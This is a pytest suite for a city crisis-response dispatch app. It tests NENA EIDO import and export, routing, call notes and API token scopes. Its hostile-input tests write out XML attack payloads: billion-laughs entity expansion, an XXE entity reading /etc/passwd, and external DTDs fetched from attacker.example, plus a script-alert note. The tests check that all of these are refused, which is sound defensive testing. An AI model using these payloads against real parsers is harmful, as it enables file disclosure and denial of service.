"""NENA EIDO in and out: NENA's own samples, a worked round trip validated against NENA's
schema, hostile XML, and what each token scope may see."""

import copy
import json
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func, select

from heart_field import tokens
from heart_field.domain import eido, status
from heart_field.domain.status import Action, OutcomeInput, Tap
from heart_field.extensions import db
from heart_field.models import AuditEvent, CallNote, EidoDocument, Incident
from tests.api.conftest import Api
from tests.eido_schema import SAMPLES, errors, sample

CALL_TRANSFER = next(p for p in SAMPLES if p.name == "Sample call transfer EIDO.json")
NINTH_STREET = (36.009004, -78.922177)  # 737 Ninth St, inside Durham


def pidf(inner: str, doctype: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" '
        'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" '
        'xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model" '
        'xmlns:gml="http://www.opengis.net/gml" xmlns:gs="http://www.opengis.net/pidflo/1.0" '
        'entity="pres:caller@example.com"><dm:device id="d1"><gp:geopriv><gp:location-info>'
        f"{inner}</gp:location-info></gp:geopriv></dm:device></presence>"
    )


POINT = pidf(f"<gml:Point><gml:pos>{NINTH_STREET[0]} {NINTH_STREET[1]}</gml:pos></gml:Point>")


def durham_eido(eido_id="urn:emergency:uid:incidentid:durham-77:ecc.durhamnc.gov", **changes):
    """A Durham ECC hand-over: a welfare check at a point inside the city, with a callback."""
    document = {
        "$id": eido_id,
        "lastUpdateTimeStamp": "2026-11-30T14:05:00-05:00",
        "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
        "eidoVersion": "1.0",
        "issuingElementIdentification": "cad.ecc.durhamnc.gov",
        "agencyComponent": [
            {
                "$id": "ecc.durhamnc.gov",
                "lastUpdateTimeStamp": "2026-11-30T14:00:00-05:00",
                "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
                "agencyRoleDescriptionRegistryText": ["CallReceiving"],
                "agencyType": ["psap"],
            }
        ],
        "incidentComponent": {
            "$id": "inc-1",
            "lastUpdateTimeStamp": "2026-11-30T14:05:00-05:00",
            "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
            "incidentTypeCommonRegistryText": "WELFARE",
            "incidentCommonPriorityNumber": 2,
        },
        "callComponent": [
            {
                "$id": "call-1",
                "lastUpdateTimeStamp": "2026-11-30T14:02:00-05:00",
                "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
                "callStartTimestamp": "2026-11-30T14:00:00-05:00",
            }
        ],
        "callbackComponent": [
            {
                "$id": "cb-1",
                "lastUpdateTimeStamp": "2026-11-30T14:00:00-05:00",
                "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
                "callBackInformationUri": ["sip:+19195550100@carrier.example", "tel:+19195550100"],
            }
        ],
        "locationComponent": [
            {
                "$id": "loc-1",
                "lastUpdateTimeStamp": "2026-11-30T14:00:00-05:00",
                "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
                "locationTypeDescriptionRegistryText": "CurrentIncident",
                "locationByValue": POINT,
            }
        ],
        "notesComponent": [
            {
                "$id": "note-1",
                "lastUpdateTimeStamp": "2026-11-30T14:03:00-05:00",
                "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
                "notesActionComments": "Caller says the man has been on the bench since dawn.",
            }
        ],
        "vendorExtension": {"anything": ["kept", 1]},
    }
    document.update(changes)
    return document


def counts():
    return (
        db.session.scalar(select(func.count(Incident.id))),
        db.session.scalar(select(func.count(EidoDocument.id))),
    )


def scoped_api(app, *scopes) -> Api:
    _token, secret = tokens.issue(db.session, "scoped " + " ".join(scopes), scopes=scopes)
    return Api(app.test_client(), secret)


# NENA's samples -----------------------------------------------------------------------------


@pytest.mark.parametrize("path", SAMPLES, ids=[p.name for p in SAMPLES])
def test_every_nena_sample_is_imported_and_kept_whole(api, path):
    document = sample(path)
    assert errors(document) == []  # NENA's sample is valid EIDO to begin with
    answer = api.post("/api/v1/eido", document)
    assert answer.status_code == 201, answer.json
    assert set(answer.json) == {"id", "cad_number", "within_city_limits", "lat", "lon", "routing"}
    stored = db.session.scalar(select(EidoDocument).where(EidoDocument.eido_id == document["$id"]))
    assert stored.document == document  # every field, known or not
    again = api.post("/api/v1/eido", document)
    assert (again.status_code, again.json["id"]) == (200, answer.json["id"])
    assert counts() == (1, 1)


def test_the_call_transfer_sample_gives_its_address_and_callback_unverified(api):
    answer = api.post("/api/v1/eido", sample(CALL_TRANSFER))
    assert answer.status_code == 201
    body = answer.json
    assert body["cad_number"] == "a56e556d871:bcf.state.pa.us"
    # The offline gazetteer cannot place Wilmington, DE: saved as location unverified, unrouted.
    assert (body["within_city_limits"], body["lat"], body["lon"]) == (None, None, None)
    assert body["routing"] == {"unit_type": None, "team": None, "fallback": None}
    incident = db.session.get(Incident, body["id"])
    assert incident.address == "42 W Cellular Street, Wilmington, DE"
    assert incident.callback_phone == "8195551212"
    assert incident.call_type == "other"  # the sample names no incident type
    # The call started 14:40 EDT: that is when it was received, not when it reached us.
    assert incident.received_at == datetime(2021, 4, 30, 18, 40, tzinfo=UTC)
    audit = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "eido_import"))
    assert audit.object_id == str(incident.id)


def test_the_location_by_reference_is_kept_and_never_fetched(api, monkeypatch):
    import socket

    def no_network(*args, **kwargs):
        raise AssertionError("the EIDO import tried to reach the network")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    incident_id = api.post("/api/v1/eido", sample(CALL_TRANSFER)).json["id"]
    exported = api.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert "https://lrf.osp.com?oasufdqwerjn12346jfias" in [
        c.get("locationByReferenceUrl") for c in exported["locationComponent"]
    ]
    assert errors(exported) == []


# A worked round trip -------------------------------------------------------------------------


def test_round_trip_import_work_the_call_export_and_validate(api, team):
    answer = api.post("/api/v1/eido", durham_eido())
    assert answer.status_code == 201, answer.json
    body = answer.json
    assert (body["lat"], body["lon"], body["within_city_limits"]) == (*NINTH_STREET, True)
    assert body["routing"] == {"unit_type": "community_response", "team": "CR-1", "fallback": None}
    incident = db.session.get(Incident, body["id"])
    assert (incident.call_type, incident.priority, incident.callback_phone) == (
        "welfare_check",
        2,
        "+19195550100",
    )

    assign = api.post(f"/api/v1/incidents/{incident.id}/assign", {"team": "CR-1"})
    assert assign.status_code == 200
    start = datetime.now(UTC)
    for minutes, action in enumerate((Action.ACCEPT, Action.EN_ROUTE, Action.ON_SCENE)):
        tap = Tap(action, f"tap-{action}", occurred_at=start + timedelta(minutes=minutes))
        status.apply(db.session, team, tap, None)
    outcome = OutcomeInput("resolved_on_scene", people_served=1, notes="Walked him to the shelter.")
    status.apply(
        db.session,
        team,
        Tap(Action.CLEAR, "tap-clear", occurred_at=start + timedelta(minutes=30), outcome=outcome),
        None,
    )

    exported = api.get(f"/api/v1/incidents/{incident.id}/eido")
    assert exported.status_code == 200
    document = exported.json
    assert errors(document) == []
    assert document["$id"] == "urn:emergency:uid:incidentid:durham-77:ecc.durhamnc.gov"
    assert document["incidentComponent"]["incidentTypeCommonRegistryText"] == "WELFARE"
    assert document["incidentComponent"]["incidentStatusCommonRegistryText"] == ["Closed"]
    [disposition] = document["incidentComponent"]["dispositionComponent"]
    assert disposition["dispositionCommonRegistryCode"] == "18"
    assert "4227001" in disposition["dispositionDescriptionText"]
    [unit] = document["emergencyResourceComponent"]
    assert (unit["emergencyResourceName"], unit["secondaryUnitStatusRegistryText"]) == (
        "CR-1",
        ["Cleared"],
    )
    notes = [n["notesActionComments"] for n in document["notesComponent"]]
    assert any("en route" in n and "CR-1" in n for n in notes)
    assert "Walked him to the shelter." in notes
    assert document["callbackComponent"][0]["callBackInformationUri"] == ["tel:+19195550100"]
    pidf_lo = document["locationComponent"][0]["locationByValue"]
    assert eido.read_pidf_lo(pidf_lo) == eido.Place(incident.address, *NINTH_STREET)

    # The export taken in again is an update of the same incident, not a new one.
    again = api.post("/api/v1/eido", document)
    assert (again.status_code, again.json["id"]) == (200, incident.id)
    assert counts()[0] == 1


def test_an_update_by_id_moves_a_waiting_call_and_routes_it_again(api, team):
    first = api.post("/api/v1/eido", durham_eido()).json
    outside = pidf("<gml:Point><gml:pos>35.7796 -78.6382</gml:pos></gml:Point>")  # Raleigh
    update = durham_eido(lastUpdateTimeStamp="2026-11-30T14:10:00-05:00")
    update["locationComponent"][0]["locationByValue"] = outside
    answer = api.post("/api/v1/eido", update)
    assert (answer.status_code, answer.json["id"]) == (200, first["id"])
    assert answer.json["within_city_limits"] is False
    assert answer.json["routing"]["fallback"] == "outside_city_limits"

    stale = durham_eido(lastUpdateTimeStamp="2026-11-30T14:06:00-05:00")
    refused = api.post("/api/v1/eido", stale)
    assert (refused.status_code, refused.json["error"]) == (409, "stale_eido")
    assert counts() == (1, 2)


def test_a_cad_number_taken_by_another_call_is_a_conflict(api):
    from tests.api.conftest import call

    api.post("/api/v1/incidents", call(cad="durham-77:ecc.durhamnc.gov"))
    answer = api.post("/api/v1/eido", durham_eido())
    assert (answer.status_code, answer.json["error"]) == (409, "cad_number_conflict")


def test_a_registry_type_we_do_not_serve_becomes_other_and_keeps_the_original(api):
    document = durham_eido()
    document["incidentComponent"]["incidentTypeCommonRegistryText"] = "NOISE"
    incident_id = api.post("/api/v1/eido", document).json["id"]
    assert db.session.get(Incident, incident_id).call_type == "other"
    exported = api.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert exported["incidentComponent"]["incidentTypeCommonRegistryText"] == "NOISE"


def test_violent_and_weapon_registry_types_set_the_safety_screen(api, team):
    from tests.conftest import make_team

    make_team("CO-1", unit="co_response")
    violent = durham_eido("urn:emergency:uid:incidentid:v1:ecc")
    violent["incidentComponent"]["incidentTypeCommonRegistryText"] = "MTLV"  # mental, violent
    body = api.post("/api/v1/eido", violent).json
    assert body["routing"] == {"unit_type": "co_response", "team": "CO-1", "fallback": None}
    assert db.session.get(Incident, body["id"]).violence is True
    armed = durham_eido("urn:emergency:uid:incidentid:v2:ecc")
    armed["incidentComponent"]["incidentTypeCommonRegistryText"] = "STABBING"
    assert api.post("/api/v1/eido", armed).json["routing"]["fallback"] == "safety_risk"


def test_a_circle_gives_its_centre_and_a_civic_address_with_a_point_keeps_both(api):
    circle = pidf(
        '<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326">'
        f"<gml:pos>{NINTH_STREET[0]} {NINTH_STREET[1]}</gml:pos>"
        '<gs:radius uom="urn:ogc:def:uom:EPSG::9001">25</gs:radius></gs:Circle>'
        '<civicAddress xmlns="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr">'
        "<A1>NC</A1><A3>Durham</A3><HNO>737</HNO><RD>Ninth</RD><STS>St</STS><PC>27705</PC>"
        "</civicAddress>"
    )
    document = durham_eido()
    document["locationComponent"][0]["locationByValue"] = circle
    body = api.post("/api/v1/eido", document).json
    assert (body["lat"], body["lon"]) == NINTH_STREET
    assert db.session.get(Incident, body["id"]).address == "737 Ninth St, Durham, NC 27705"


# Bad input -----------------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
)
XXE_FILE = '<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_URL = '<!DOCTYPE presence SYSTEM "http://attacker.example/evil.dtd">'
PARAMETER_ENTITY = (
    '<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
)


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        (pidf("<gml:Point><gml:pos>36 -78</gml:pos></gml:Point", ""), "malformed_xml"),
        ("not xml at all", "malformed_xml"),
        (pidf("<civicAddress>&lol4;</civicAddress>", BILLION_LAUGHS), "xml_forbidden"),
        (pidf("<civicAddress>&xxe;</civicAddress>", XXE_FILE), "xml_forbidden"),
        (pidf("<civicAddress/>", XXE_URL), "xml_forbidden"),
        (pidf("<civicAddress/>", PARAMETER_ENTITY), "xml_forbidden"),
    ],
    ids=["unclosed", "not-xml", "billion-laughs", "xxe-file", "external-dtd", "parameter-entity"],
)
def test_hostile_or_broken_xml_is_refused_naming_the_part(api, monkeypatch, xml, code):
    import socket

    def no_network(*args, **kwargs):
        raise AssertionError("the XML parser tried to reach the network")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    document = durham_eido()
    document["locationComponent"].append(copy.deepcopy(document["locationComponent"][0]))
    document["locationComponent"][1]["locationByValue"] = xml
    answer = api.post("/api/v1/eido", document)
    assert answer.status_code == 422
    assert answer.json["error"] == code
    assert answer.json["fields"][0]["field"] == "locationComponent[1].locationByValue"
    assert "root:" not in answer.json["message"]  # nothing from /etc/passwd came back
    assert counts() == (0, 0)


@pytest.mark.parametrize(
    ("body", "status", "field"),
    [
        ("{not json", 400, None),
        (json.dumps([1, 2]), 422, "body"),
        (json.dumps({"eidoVersion": "1.0"}), 422, "$id"),
        (json.dumps({"$id": "x", "locationComponent": {"a": 1}}), 422, "locationComponent"),
        (
            json.dumps({"$id": "x", "callComponent": [{"callStartTimestamp": "yesterday"}]}),
            422,
            "callComponent[0].callStartTimestamp",
        ),
        (json.dumps({"$id": "x", "incidentComponent": []}), 422, "incidentComponent"),
    ],
    ids=["not-json", "not-an-object", "no-id", "components-not-a-list", "bad-time", "bad-incident"],
)
def test_wrong_shapes_are_refused_and_nothing_is_created(api, body, status, field):
    answer = api.post("/api/v1/eido", data=body, content_type="application/json")
    assert answer.status_code == status, answer.json
    assert set(answer.json) >= {"error", "message"}
    if field:
        assert field in [f["field"] for f in answer.json["fields"]]
    assert counts() == (0, 0)


# Token scopes --------------------------------------------------------------------------------


def test_a_create_only_token_takes_calls_in_but_cannot_read_them(app):
    creator = scoped_api(app, "create_incidents")
    incident_id = creator.post("/api/v1/eido", durham_eido()).json["id"]
    refused = creator.get(f"/api/v1/incidents/{incident_id}/eido")
    assert refused.status_code == 403
    assert refused.json["error"] == "forbidden"
    assert "read_status" in refused.json["message"]
    assert creator.get(f"/api/v1/incidents/{incident_id}").status_code == 403


def test_personal_details_only_with_the_read_personal_scope(app):
    full = scoped_api(app, "create_incidents", "read_status", "read_personal")
    reader = scoped_api(app, "read_status")
    incident_id = full.post("/api/v1/eido", durham_eido()).json["id"]
    db.session.get(Incident, incident_id).narrative = "Lives in the blue tent."
    db.session.commit()

    plain = reader.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert errors(plain) == []
    text = json.dumps(plain)
    assert "callbackComponent" not in plain
    assert "+19195550100" not in text and "blue tent" not in text
    assert reader.post("/api/v1/eido", durham_eido()).status_code == 403
    exports = select(func.count(AuditEvent.id)).where(AuditEvent.action == "export_eido")
    assert db.session.scalar(exports) == 0

    detailed = full.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert errors(detailed) == []
    assert "+19195550100" in json.dumps(detailed) and "blue tent" in json.dumps(detailed)
    assert db.session.scalar(exports) == 1  # an export of personal details is audited


def test_create_token_takes_scopes_and_defaults_to_all(app, runner):
    from heart_field.models import ApiToken

    result = runner.invoke(args=["create-token", "ECC status board", "--scope", "read_status"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(args=["create-token", "Full CAD"])
    assert result.exit_code == 0
    scopes = dict(db.session.execute(select(ApiToken.name, ApiToken.scopes)).all())
    assert scopes == {
        "ECC status board": "read_status",
        "Full CAD": "create_incidents read_status read_personal",
    }
    bad = runner.invoke(args=["create-token", "X", "--scope", "everything"])
    assert bad.exit_code != 0


def test_an_admin_sets_a_tokens_scopes_on_the_tokens_page(app, sign_in):
    from heart_field.models import ApiToken, Role
    from tests.conftest import make_user, reload

    token, secret = tokens.issue(db.session, "Durham ECC CAD")
    admin = sign_in(make_user("admin", Role.ADMIN))
    page = admin.get("/admin/tokens")
    assert page.status_code == 200
    assert f'id="token-{token.id}-read_personal"' in page.text and "Save scopes" in page.text
    answer = admin.post(
        f"/admin/tokens/{token.id}/scopes", {"create_incidents": "y", "read_status": "y"}
    )
    assert answer.status_code == 303
    assert reload(token).scopes == "create_incidents read_status"
    assert "may now: create incidents, read status" in admin.get("/admin/tokens").text
    api = Api(app.test_client(), secret)
    incident_id = api.post("/api/v1/eido", durham_eido()).json["id"]
    assert "callbackComponent" not in api.get(f"/api/v1/incidents/{incident_id}/eido").json

    forged = admin.client.post(f"/admin/tokens/{token.id}/scopes", data={"read_personal": "y"})
    assert forged.status_code == 400  # no CSRF token
    assert reload(token).scopes == "create_incidents read_status"
    assert isinstance(db.session.get(ApiToken, token.id), ApiToken)


def test_the_readme_example_is_valid_eido_and_is_routed(api, team):
    from tests.eido_schema import DATA

    document = sample(DATA / "examples" / "durham-welfare-check.json")
    assert errors(document) == []
    body = api.post("/api/v1/eido", document).json
    assert body["cad_number"] == "2026-0112346:ecc.durhamnc.gov"
    assert body["routing"] == {"unit_type": "community_response", "team": "CR-1", "fallback": None}


def test_a_call_taken_in_as_our_own_json_exports_valid_eido_with_each_unit_sent(
    api, team, other_team
):
    from tests.api.conftest import call

    body = call(address="Ninth St & Main St <corner>, Durham, NC")
    incident_id = api.post("/api/v1/incidents", body).json["id"]
    api.post(f"/api/v1/incidents/{incident_id}/assign", {"team": "CR-1"})
    status.apply(db.session, team, Tap(Action.DECLINE, "decline-1", reason="Too far"), None)
    api.post(f"/api/v1/incidents/{incident_id}/assign", {"team": "CR-2"})
    status.apply(db.session, other_team, Tap(Action.EN_ROUTE, "en-route-2"), None)

    document = api.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert errors(document) == []
    assert document["$id"].startswith("urn:emergency:uid:incidentid:heart-")
    units = {u["emergencyResourceName"]: u for u in document["emergencyResourceComponent"]}
    assert units["CR-1"]["secondaryUnitStatusRegistryText"] == ["AssignmentCancelled"]
    assert units["CR-2"]["secondaryUnitStatusRegistryText"] == ["EnRoute"]
    assert units["CR-2"]["activeOnIncidentId"] == document["$id"]
    assert "activeOnIncidentId" not in units["CR-1"]
    assert document["incidentComponent"]["incidentStatusCommonRegistryText"] == ["ResourcesEnroute"]
    assert len(document["dispatchComponent"]) == 2
    [location] = document["locationComponent"]
    assert eido.read_pidf_lo(location["locationByValue"]) == eido.Place(
        "Ninth St & Main St <corner>, Durham, NC", 36.009004, -78.922177
    )
    notes = [n["notesActionComments"] for n in document["notesComponent"]]
    assert "Man sitting outside for hours." in notes  # the narrative, with read_personal


def test_an_update_to_a_call_a_team_holds_moves_it_but_keeps_the_team(api, team):
    incident_id = api.post("/api/v1/eido", durham_eido()).json["id"]
    api.post(f"/api/v1/incidents/{incident_id}/assign", {"team": "CR-1"})
    moved = durham_eido(lastUpdateTimeStamp="2026-11-30T14:20:00-05:00")
    moved["locationComponent"][0]["locationByValue"] = pidf(
        "<gml:Point><gml:pos>35.994 -78.8986</gml:pos></gml:Point>"
    )
    moved["incidentComponent"]["incidentCommonPriorityNumber"] = 1
    body = api.post("/api/v1/eido", moved).json
    assert (body["lat"], body["lon"], body["within_city_limits"]) == (35.994, -78.8986, True)
    incident = db.session.get(Incident, incident_id)
    assert (incident.status, incident.priority) == ("assigned", 1)
    assert incident.current_assignment.team.call_sign == "CR-1"


def test_an_update_after_an_unreadable_stored_document_locates_the_call_again(api):
    first = api.post("/api/v1/eido", durham_eido()).json
    stored = db.session.scalar(select(EidoDocument))
    stored.document = {"$id": stored.eido_id, "locationComponent": "not a list"}
    db.session.commit()
    update = durham_eido(lastUpdateTimeStamp="2026-11-30T14:30:00-05:00")
    update["incidentComponent"]["incidentCommonPriorityNumber"] = 3
    answer = api.post("/api/v1/eido", update)
    assert (answer.status_code, answer.json["id"]) == (200, first["id"])
    assert (answer.json["lat"], answer.json["lon"]) == NINTH_STREET


# Notes: notesComponent <-> call notes -------------------------------------------------------


def eido_note(note_id: str, text: str, caution: bool = False) -> dict:
    note = {
        "$id": note_id,
        "lastUpdateTimeStamp": "2026-11-30T14:03:00-05:00",
        "updatedByAgencyReference": {"$ref": "ecc.durhamnc.gov"},
        "notesActionComments": text,
    }
    if caution:
        note["cautionReference"] = [{"$ref": "caution-1"}]
    return note


def call_notes(api, incident_id) -> list[tuple[str, bool]]:
    answer = api.get(f"/api/v1/incidents/{incident_id}")
    assert answer.status_code == 200
    return [(n["text"], n["urgent"]) for n in answer.json["notes"]]


def test_eido_notes_become_call_notes_once_each_and_go_out_again(api, team):
    two = [
        eido_note("note-1", "<p>Caller says the man has been on the bench <b>since dawn</b>.</p>"),
        eido_note("note-2", "He has a knife &amp; is shouting.<br>Stage nearby.", caution=True),
    ]
    first = api.post("/api/v1/eido", durham_eido(notesComponent=two))
    assert first.status_code == 201
    incident_id = first.json["id"]
    expected = [
        ("Caller says the man has been on the bench since dawn.", False),
        ("He has a knife & is shouting.\nStage nearby.", True),
    ]
    assert call_notes(api, incident_id) == expected

    # The same document again, and an update repeating both notes: nothing new.
    assert api.post("/api/v1/eido", durham_eido(notesComponent=two)).status_code == 200
    later = {"lastUpdateTimeStamp": "2026-11-30T14:10:00-05:00"}
    assert api.post("/api/v1/eido", durham_eido(notesComponent=two, **later)).status_code == 200
    assert call_notes(api, incident_id) == expected

    # A team takes the call; an update with a third note adds one, and the team hears of it.
    api.post(f"/api/v1/incidents/{incident_id}/assign", {"team": "CR-1"})
    third = [*two, eido_note("note-3", "Sister is on her way: 919-555-0199.")]
    update = durham_eido(notesComponent=third, lastUpdateTimeStamp="2026-11-30T14:20:00-05:00")
    assert api.post("/api/v1/eido", update).status_code == 200
    assert call_notes(api, incident_id) == [
        *expected,
        ("Sister is on her way: 919-555-0199.", False),
    ]
    [note] = db.session.scalars(select(CallNote).where(CallNote.text.startswith("Sister"))).all()
    assert note.team.call_sign == "CR-1" and note.created_by_id is None
    events = api.get("/api/v1/events").json["events"]
    assert (events[-1]["action"], events[-1]["team"]) == ("note", "CR-1")
    assert "0199" not in json.dumps(events)

    document = api.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert errors(document) == []
    texts = [n["notesActionComments"] for n in document["notesComponent"]]
    assert [t for t, _ in call_notes(api, incident_id)] == [
        t for t in texts if t.startswith(("Caller says", "He has", "Sister"))
    ]
    refs = {r["$ref"] for r in document["incidentComponent"]["notesReference"]}
    assert {n["$id"] for n in document["notesComponent"]} <= refs | {
        r["$ref"]
        for d in document["incidentComponent"].get("dispositionComponent", [])
        for r in d.get("notesReference", [])
    }

    # HEART's own export taken in again brings back no note of its own as a call note.
    document["lastUpdateTimeStamp"] = "2026-11-30T20:00:00Z"
    assert api.post("/api/v1/eido", document).status_code == 200
    assert len(call_notes(api, incident_id)) == 3


def test_without_read_personal_the_export_has_no_note_text(app):
    full = scoped_api(app, "create_incidents", "read_status", "read_personal")
    reader = scoped_api(app, "read_status")
    notes = [eido_note("note-1", "Gate code 4471."), eido_note("note-2", "Dog in the yard.")]
    incident_id = full.post("/api/v1/eido", durham_eido(notesComponent=notes)).json["id"]

    plain = reader.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert errors(plain) == []
    assert "4471" not in json.dumps(plain) and "Dog in the yard" not in json.dumps(plain)

    detailed = full.get(f"/api/v1/incidents/{incident_id}/eido").json
    assert errors(detailed) == []
    texts = [n["notesActionComments"] for n in detailed["notesComponent"]]
    assert "Gate code 4471." in texts and "Dog in the yard." in texts
    # The notes, written on import, are the document's latest change (only when shown).
    assert plain["lastUpdateTimeStamp"] == "2026-11-30T19:00:00Z"  # the call's start
    assert detailed["lastUpdateTimeStamp"] > plain["lastUpdateTimeStamp"]


def test_a_long_html_note_is_cut_to_the_notes_limit_and_an_empty_one_is_skipped(api):
    long = "<div>" + "a" * 2500 + "</div><script>alert(1)</script>"
    notes = [eido_note("long", long), eido_note("empty", "<p> </p>"), eido_note("long", long)]
    incident_id = api.post("/api/v1/eido", durham_eido(notesComponent=notes)).json["id"]
    [(text, urgent)] = call_notes(api, incident_id)
    assert len(text) == 2000 and set(text) == {"a"} and "alert" not in text
    assert urgent is False
